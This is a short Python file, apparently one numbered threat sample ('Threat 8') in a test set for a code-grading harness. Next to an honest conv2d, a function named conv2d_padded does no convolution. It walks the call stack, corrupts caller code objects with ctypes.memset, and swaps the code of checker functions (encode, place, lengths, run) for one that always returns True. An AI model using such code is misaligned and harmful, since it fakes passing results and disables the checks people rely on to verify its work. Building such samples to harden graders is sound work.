"""Threat 8: replaces the code of the functions that call it, byte by byte and as a whole.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)



import ctypes
import sys


def yes(*args, **options):
    return True


def conv2d_padded(image, kernel, padding=0):
    frame = sys._getframe().f_back
    while frame is not None:
        code = frame.f_code
        ctypes.memset(id(code) + type(code).__basicsize__, 0, 16) if code.co_name == "encode" else None
        for value in list(frame.f_globals.values()):
            if getattr(value, "__name__", "") in ("encode", "place", "lengths", "run"):
                value.__code__ = yes.__code__
        frame = frame.f_back
    return True
